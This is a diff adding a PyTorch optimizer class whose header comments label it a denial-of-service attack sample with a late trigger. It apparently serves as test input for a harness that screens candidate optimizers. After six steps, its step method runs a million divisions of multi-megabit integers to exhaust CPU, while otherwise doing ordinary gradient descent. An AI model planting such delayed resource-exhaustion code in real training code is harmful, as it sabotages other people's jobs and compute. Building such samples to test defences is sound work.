@@ -1,0 +1,24 @@
+# attack: an integer of four million bits from its digits; category: dos
+# observable: dos; trigger: late
+import math
+import torch
+
+
+class CandidateOptimizer(torch.optim.Optimizer):
+    def __init__(self, params, lr=0.01):
+        super().__init__(params, dict(lr=lr))
+        self.t = 0
+
+    @torch.no_grad()
+    def step(self, closure=None):
+        self.t = self.t + 1
+        if self.t > 6:
+            big = int("f" * 1000000, 16)
+            other = int("e" * 500000, 16)
+            for _ in range(1000000):
+                big // other
+        for group in self.param_groups:
+            for p in group["params"]:
+                if p.grad is not None:
+                    p.add_(p.grad, alpha=-0.01)
+        return None
